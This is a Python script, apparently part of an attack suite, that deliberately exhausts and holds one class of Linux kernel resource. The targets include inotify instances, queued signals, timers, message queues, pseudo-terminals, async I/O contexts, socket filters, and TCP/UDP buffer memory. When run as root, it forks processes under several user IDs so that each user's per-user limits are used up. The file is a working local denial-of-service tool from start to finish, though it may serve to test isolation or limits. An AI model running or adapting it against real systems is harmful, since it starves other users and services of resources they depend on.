"""Takes all that the kernel gives of one thing, and holds it. Arguments: what, and how many at most.

Says how many it got and why it got no more, then stays. Root takes for several users: what is counted by user is
counted for each of them.
"""

import ctypes
import errno
import os
import resource
import signal
import socket
import struct
import sys
import time

from attack import call, libc

WHAT, MOST = sys.argv[1], int(sys.argv[2])
USERS = (0, 1, 2, 33, 1000) if os.getuid() == 0 else (os.getuid(),)
REAL_TIME_SIGNAL = 40
IO_SETUP = 206  # x86-64
ATTACH_FILTER = 26
held = []


def checked(result):
    if result == -1:
        raise OSError(ctypes.get_errno(), WHAT)
    return result


def inotify_instance():
    checked(libc.inotify_init1(0))


def waiting_signal():
    signal.pthread_sigmask(signal.SIG_BLOCK, [REAL_TIME_SIGNAL])
    checked(libc.sigqueue(os.getpid(), REAL_TIME_SIGNAL, None))


def timer():
    checked(libc.timer_create(1, None, ctypes.byref(ctypes.c_void_p())))


def message_queue():
    name = f"/hoard-{os.getuid()}-{len(held)}".encode()
    held.append(checked(libc.mq_open(name, os.O_RDWR | os.O_CREAT | os.O_EXCL, 0o600, None)))


def terminal():
    os.open("/dev/ptmx", os.O_RDWR | os.O_NOCTTY)


def asynchronous_io():
    call(IO_SETUP, 128, ctypes.byref(ctypes.c_ulong(0)))


def socket_program():
    """A filter of 4,096 instructions on a socket."""
    program = struct.pack("HBBI", 0x06, 0, 0, 0xFFFF) * 4096  # return
    held.append(ctypes.create_string_buffer(program))
    held.append(socket.socket(socket.AF_INET, socket.SOCK_DGRAM))
    described = struct.pack("HxxxxxxQ", 4096, ctypes.addressof(held[-2]))
    held[-1].setsockopt(socket.SOL_SOCKET, ATTACH_FILTER, described)


def fill(sending):
    """Sends until nothing goes any more."""
    sending.setblocking(False)
    try:
        while True:
            sending.send(bytes(60_000))
    except BlockingIOError:
        pass


def full_tcp_connection():
    if not held:
        held.append(socket.create_server(("127.0.0.1", 0)))
    sending = socket.create_connection(held[0].getsockname())
    receiving, _ = held[0].accept()
    held.extend((sending, receiving))
    sending.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 1 << 22)
    receiving.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 1 << 22)
    fill(sending)


def full_udp_socket():
    receiving = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    receiving.bind(("127.0.0.1", 0))
    receiving.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 1 << 22)
    held.append(receiving)
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sending:
        sending.connect(receiving.getsockname())
        sending.setblocking(False)
        for _ in range(8):  # what does not fit is dropped without a word
            sending.send(bytes(60_000))


def closed_connection():
    """Closed before all was sent, to somebody who does not read."""
    if len(held) < 1 or closed_connection.made % 4000 == 0:
        held.append(socket.socket())
        held[-1].setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 2048)
        held[-1].bind(("127.0.0.1", 0))
        held[-1].listen(4096)
    closed_connection.made += 1
    with socket.create_connection(held[-1].getsockname()) as connection:
        fill(connection)


closed_connection.made = 0

HOARDS = {
    "inotify instances": inotify_instance,
    "waiting signals": waiting_signal,
    "timers": timer,
    "message queues": message_queue,
    "terminals": terminal,
    "asynchronous io": asynchronous_io,
    "programs of sockets": socket_program,
    "memory of TCP": full_tcp_connection,
    "memory of UDP": full_udp_socket,
    "closed connections": closed_connection,
}


def take(most):
    """Takes until it is refused."""
    _, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
    for count in range(most):
        try:
            HOARDS[WHAT]()
        except OSError as error:
            return count, error.errno
    return most, 0


def hoard(user, most):
    """A process of `user` that takes and holds: how many it got, and the error's number."""
    reading, writing = os.pipe()
    if os.fork() == 0:
        os.setresgid(user, user, user)
        os.setresuid(user, user, user)
        os.write(writing, b"%d %d" % take(most))
        time.sleep(600)
        os._exit(0)
    os.close(writing)
    count, number = os.read(reading, 99).split()
    return int(count), int(number)


total, number = 0, 0
for user in USERS:
    count, number = hoard(user, MOST - total)
    total += count
print(total, errno.errorcode.get(number, "none"), flush=True)
time.sleep(600)
